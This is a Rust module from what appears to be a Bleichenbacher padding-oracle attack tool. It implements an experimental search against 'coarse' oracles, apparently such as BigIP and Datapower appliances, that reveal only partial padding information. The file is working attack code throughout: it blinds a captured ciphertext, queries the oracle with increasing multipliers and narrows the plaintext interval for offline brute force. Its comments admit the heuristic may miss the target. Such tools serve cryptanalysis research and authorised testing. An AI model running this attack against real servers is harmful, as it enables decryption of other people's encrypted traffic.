//! Experimental single-phase search for coarse oracles
//!
//! Some servers (BigIP, Datapower) only reveal whether the second byte of the
//! decrypted block is 0x02. A conforming `c0 * si` then lies in one of the
//! windows `[256B*i + 2B, 256B*i + 3B)`, which bounds `c0` to roughly `B / si`.
//!
//! This is a best-effort heuristic. The first window strictly inside the
//! current bounds is taken, which is not guaranteed to be the right one, and
//! the search stops at a fixed multiplier cap whether it converged or not.

use num::bigint::BigUint;
use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::interval::Interval;
use crate::oracle::Oracle;

use super::{Bleichenbacher, Error};

/// Tuning knobs of the coarse search
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct CoarseConfig {
    /// First multiplier tried
    pub start: u64,
    /// Multipliers stop below this value
    pub cap: u64,
    /// Windows i in [1, window_multipliers) are tried on each hit
    pub window_multipliers: u64,
    /// Stop once the bounds are narrower than this
    pub finish_width: u64,
}

impl Default for CoarseConfig {
    fn default() -> Self {
        Self {
            start: 256 / 3,
            cap: 1500,
            window_multipliers: 160,
            finish_width: 10_000,
        }
    }
}

/// Bounds found by a coarse search
///
/// The blinded input `s0 * m mod n` lies in `interval`, so candidates for the
/// input are `s0^-1 * x mod n` for x in the interval.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CoarseBounds {
    pub interval: Interval,
    pub s0: BigUint,
}

/// Coarse-oracle search
pub struct CoarseSearch<'a, O: Oracle + ?Sized> {
    engine: Bleichenbacher<'a, O>,
    config: CoarseConfig,
}

impl<'a, O: Oracle + ?Sized> CoarseSearch<'a, O> {
    /// Create a new coarse search
    ///
    /// Unless `msg_is_pkcs` is set the input is blinded first, like the canonical attack
    pub fn new(ciphertext: &[u8], oracle: &'a mut O, msg_is_pkcs: bool, config: CoarseConfig) -> Result<Self, Error> {
        Ok(Self {
            engine: Bleichenbacher::new(ciphertext, oracle, msg_is_pkcs)?,
            config,
        })
    }

    pub fn with_progress_interval(mut self, interval: u64) -> Self {
        self.engine = self.engine.with_progress_interval(interval);
        self
    }

    pub fn number_of_queries(&self) -> u64 {
        self.engine.number_of_queries()
    }

    /// Run the search, returning the final bounds on the blinded input for offline brute force
    pub fn run(&mut self) -> Result<CoarseBounds, Error> {
        warn!("coarse search is experimental and may return bounds that miss the target");

        let session = self.engine.blind()?;
        let c0 = session.c0;
        let check_invariant = self.engine.oracle.is_plaintext_oracle();
        let finish_width = BigUint::from(self.config.finish_width);

        let mut lower = self.engine.bounds.two_b.clone();
        let mut upper = self.engine.bounds.three_b.clone();
        let mut narrowed = false;

        let mut si = BigUint::from(self.config.start);
        let cap = BigUint::from(self.config.cap);

        while si < cap {
            if self.engine.query(&c0, &si)? {
                if let Some((window_lower, window_upper)) = self.window(&si, &lower, &upper) {
                    lower = window_lower - 1_u32;
                    upper = window_upper + 1_u32;
                    narrowed = true;

                    let width = &upper - &lower;
                    debug!(si = %si, width = %width, "narrowed the coarse bounds");

                    if check_invariant && (c0 < lower || c0 > upper) {
                        return Err(Error::InvariantViolation { lower, upper });
                    }
                    if width < finish_width {
                        break;
                    }
                }
            }
            si += 1_u32;
        }

        if !narrowed {
            return Err(Error::SearchExhausted { cap: self.config.cap });
        }

        info!(
            si = %si,
            queries = self.engine.number_of_queries(),
            "coarse search finished"
        );
        let interval = Interval::new(lower.clone(), upper.clone()).ok_or(Error::InvariantViolation { lower, upper })?;
        Ok(CoarseBounds {
            interval,
            s0: session.s0,
        })
    }

    // first [B(256i + 2) / si, B(256i + 3) / si] strictly inside (lower, upper)
    fn window(&self, si: &BigUint, lower: &BigUint, upper: &BigUint) -> Option<(BigUint, BigUint)> {
        let b = &self.engine.bounds.b;

        (1..self.config.window_multipliers).find_map(|i| {
            let window_lower = b * (256 * i + 2) / si;
            let window_upper = b * (256 * i + 3) / si;
            if &window_lower > lower && &window_upper < upper {
                Some((window_lower, window_upper))
            } else {
                None
            }
        })
    }
}
